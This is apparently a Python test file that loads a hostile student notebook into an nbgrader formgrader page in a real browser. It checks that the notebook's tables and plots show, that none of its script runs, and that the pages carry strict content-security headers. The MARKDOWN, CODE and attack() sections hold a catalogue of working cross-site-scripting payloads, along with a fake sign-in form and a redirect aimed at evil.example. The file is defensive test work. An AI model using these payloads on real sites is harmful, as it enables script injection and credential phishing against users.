"""Formgrader in a real browser: a hostile submission shows its tables and plots, and nothing of it runs."""

import contextlib
import os
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from atelier_nbgrader.gradebook import open_gradebook
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from playwright.sync_api import Browser, Page, expect

from demo.ports import list_free_ports
from tests.components import require_sandbox
from tests.lab_server import end_server
from tests.nbgrader_course import (
    ASSIGNMENT,
    RIGHT,
    SLUG,
    TestCourse,
    make_course,
)
from tests.nbgrader_workspaces import own_path
from tests.waiting import wait_until

pytestmark = [pytest.mark.browser, pytest.mark.sandbox]

RUNS = "window.pwned = (window.pwned || 0) + 1"
ANNA = "annaaaaaaaaa"
MARKDOWN = f"""
<script>{RUNS}</script>
<img src=x onerror="{RUNS}">
<svg onload="{RUNS}"><script>{RUNS}</script></svg>
<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe>
<form action="https://evil.example"><input name=password><button>Sign in</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example">
<style>body {{ display: none }}</style>
<a href="javascript:{RUNS}" id="click-me">press me</a> [and me](javascript:{RUNS})
<details open ontoggle="{RUNS}">x</details>
<math><mtext><table><mglyph><style><img src=x onerror="{RUNS}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={RUNS}>"></noscript>

$\\href{{javascript:{RUNS}}}{{formula}}$

**bold of the student**

| a | b |
|---|---|
| 1 | table of the student |
"""
CODE = f"""
import matplotlib.pyplot as plt, pandas as pd
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
display(HTML('<b>shown</b><script>{RUNS}</script><img src=x onerror="{RUNS}"><svg/onload="{RUNS}">'))
display(Javascript("{RUNS}"))
display(SVG(data='<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{RUNS}">'
            '<script>{RUNS}</script></svg>'))
display(Latex('</div><script>{RUNS}</script>'))
display(Markdown('<script>{RUNS}</script><img src=x onerror="{RUNS}">'))
display({{"image/png": 'x" onerror="{RUNS}'}}, raw=True)
widget = {{"model_id": "</script><script>{RUNS}</script>"}}
display({{"application/vnd.jupyter.widget-view+json": widget}}, raw=True)
display(pd.DataFrame({{"city": ["Sofia"], "t": [21.5]}}))
plt.plot([1, 2, 3]); plt.show()
print("<script>{RUNS}</script>")
raise ValueError("<img src=x onerror='{RUNS}'>")
"""


@dataclass
class Formgrader:
    """A running course workspace."""

    url: str
    token: str
    course: TestCourse

    def find_submission(self) -> str:
        with open_gradebook(self.course.coursedir) as gradebook:
            return str(gradebook.find_submission_notebook("squares", ASSIGNMENT, ANNA).id)

    def get(self, path: str) -> tuple[int, dict[str, str], str]:
        """Status, headers (lower case) and text of an answer."""
        headers = {"Authorization": f"token {self.token}"}
        request = urllib.request.Request(f"{self.url}/{path}", headers=headers)  # noqa: S310
        try:
            with urllib.request.urlopen(request, timeout=30) as answer:  # noqa: S310
                found = {name.lower(): value for name, value in answer.headers.items()}
                return answer.status, found, answer.read().decode(errors="replace")
        except urllib.error.HTTPError as error:
            return error.code, {}, ""


def attack(notebook: nbformat.NotebookNode) -> None:
    notebook.cells[1].source = RIGHT
    notebook.cells[4].source = f'My answer <img src=x onerror="{RUNS}">'
    notebook.cells.insert(0, new_markdown_cell(MARKDOWN, metadata={"tags": [f'"><script>{RUNS}</script>']}))
    notebook.cells.append(new_code_cell(CODE))
    notebook.cells.append(new_raw_cell(f"<script>{RUNS}</script>", metadata={"raw_mimetype": "text/html"}))
    notebook.metadata["title"] = f"</title><script>{RUNS}</script>"


@pytest.fixture(scope="module")
def formgrader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Formgrader]:
    require_sandbox()
    home = tmp_path_factory.mktemp("teacher")
    environ = {"ATELIER_KIND": "course", "ATELIER_COURSE": SLUG, "ATELIER_ACCOUNT": "course-aaaaaaaaaaaa"}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", own_path())
        patch.setenv("HOME", str(home))
        course = make_course(home, environ)
        course.submit(ANNA, attack, {"evil.html": f"<script>{RUNS}</script>".encode()})
        assert course.autograde(ANNA)["success"]
        with serve(home, {**os.environ, **environ, "ATELIER_LANGUAGE": "en"}, course) as running:
            yield running


@contextlib.contextmanager
def serve(home: Path, environ: dict[str, str], course: TestCourse) -> Iterator[Formgrader]:
    """A jupyter server on a free port, as a course workspace starts it."""
    (port,) = list_free_ports(1)
    extensions = "{'atelier_nbgrader': True, 'nbgrader.server_extensions.formgrader': True}"
    command = [
        *(sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root", f"--port={port}"),
        *("--port-retries=0", "--IdentityProvider.token=secret", f"--ServerApp.root_dir={home}"),
        f"--ServerApp.jpserver_extensions={extensions}",
    ]
    with (home / "server.log").open("w") as log:
        process = subprocess.Popen(command, env=environ, cwd=home, stdout=log, stderr=log)
        try:
            running = Formgrader(f"http://127.0.0.1:{port}", "secret", course)
            wait_until_up(running, process, home / "server.log")
            yield running
        finally:
            end_server(process, home / "server.log")


def wait_until_up(running: Formgrader, process: "subprocess.Popen[bytes]", log: Path) -> None:
    def answers() -> bool:
        assert process.poll() is None, log.read_text()
        with contextlib.suppress(OSError):
            return running.get("api/status")[0] == 200
        return False

    wait_until(answers, 90, lambda: f"the server did not start: {log.read_text()}")


@pytest.fixture
def teacher_page(formgrader: Formgrader, chromium: Browser) -> Iterator[Page]:
    """A browser of the teacher's, signed in to her course workspace."""
    context = chromium.new_context()
    opened = context.new_page()
    opened.goto(f"{formgrader.url}/api/status?token=secret")  # signs in for the whole server
    yield opened
    context.close()


@pytest.fixture
def page(formgrader: Formgrader, teacher_page: Page) -> Page:
    """The hostile submission in formgrader."""
    teacher_page.goto(f"{formgrader.url}/formgrader/submissions/{formgrader.find_submission()}/")
    teacher_page.wait_for_load_state("networkidle")
    return teacher_page


def test_nothing_of_a_hostile_notebook_runs_and_tables_and_plots_show(page: Page) -> None:
    for link in page.get_by_text("press me").all():
        link.click()
    assert page.evaluate("window.pwned") is None
    for tag in ("iframe", "form", "svg", "noscript", "style", "meta"):
        assert page.locator(f"#notebook-container {tag}").count() == 0, tag
    assert page.locator("#notebook [onerror], #notebook [onload], #notebook [ontoggle]").count() == 0
    text = page.locator("#notebook").first.inner_text()
    for shown in ("bold of the student", "table of the student", "shown", "Sofia", "21.5", "ValueError"):
        assert shown in text
    assert page.locator("#notebook td", has_text="Sofia").is_visible()
    plots = page.locator("#notebook .output_png img").all()
    assert any(plot.evaluate("image => image.naturalWidth") > 100 for plot in plots)


def test_what_slips_past_the_cleaning_cannot_run_either(page: Page) -> None:
    page.evaluate(
        """code => {
            const place = document.getElementById('notebook');
            place.insertAdjacentHTML('beforeend',
                `<img src=x onerror="${code}"><a id=js href="javascript:${code}">x</a>`);
            place.querySelector('img').dispatchEvent(new Event('error'));
            const script = document.createElement('script');
            script.text = code;
            place.append(script);
            document.getElementById('js').click();
        }""",
        RUNS,
    )
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.pwned") is None


def test_formgraders_own_scripts_still_work(page: Page, formgrader: Formgrader) -> None:
    assert page.evaluate("submission_id") == formgrader.find_submission()
    page.evaluate("toggle_name(true)")
    page.locator(".name-shown.glyphicon").click()
    expect(page.locator(".name-hidden.glyphicon")).to_be_visible()  # the page's own onclick is allowed
    with page.expect_response(lambda answer: "/api/grade/" in answer.url and answer.request.method == "PUT"):
        page.locator("input#why").fill("3")
        page.locator("input#why").dispatch_event("change")
    with open_gradebook(formgrader.course.coursedir) as gradebook:
        assert gradebook.find_grade("why", "squares", ASSIGNMENT, ANNA).manual_score == 3


def test_a_students_file_is_downloaded_and_never_opened(formgrader: Formgrader) -> None:
    status, headers, _ = formgrader.get(f"formgrader/submissions/{formgrader.find_submission()}/evil.html")
    assert status == 200
    assert headers["content-disposition"] == "attachment"
    assert headers["content-security-policy"].startswith("sandbox;")
    assert headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("place", ["manage_submissions", "gradebook", "manage_students"])
def test_code_in_an_address_is_not_written_into_a_page(formgrader: Formgrader, place: str) -> None:
    assert formgrader.get(f"formgrader/{place}/%22%3Balert(1)%2F%2F")[0] == 404


def test_every_page_has_a_policy_without_unsafe_inline_scripts(formgrader: Formgrader) -> None:
    places = ["manage_assignments", "gradebook", f"gradebook/{ASSIGNMENT}", f"gradebook/{ASSIGNMENT}/squares"]
    for place in [*places, "manage_students", f"manage_submissions/{ASSIGNMENT}", "api/students"]:
        status, headers, _ = formgrader.get(f"formgrader/{place}")
        assert status == 200, place
        policy = headers["content-security-policy"]
        assert "default-src" in policy
        scripts = next((part for part in policy.split(";") if "script-src" in part), "")
        assert "unsafe-inline" not in scripts
        assert "http" not in scripts


def test_lists_show_in_a_browser(formgrader: Formgrader, teacher_page: Page) -> None:
    teacher_page.goto(f"{formgrader.url}/formgrader/manage_assignments")
    expect(teacher_page.locator("#main-table")).to_contain_text(ASSIGNMENT)
    teacher_page.goto(f"{formgrader.url}/formgrader/manage_submissions/{ASSIGNMENT}")
    expect(teacher_page.locator("#main-table")).to_contain_text(ANNA)
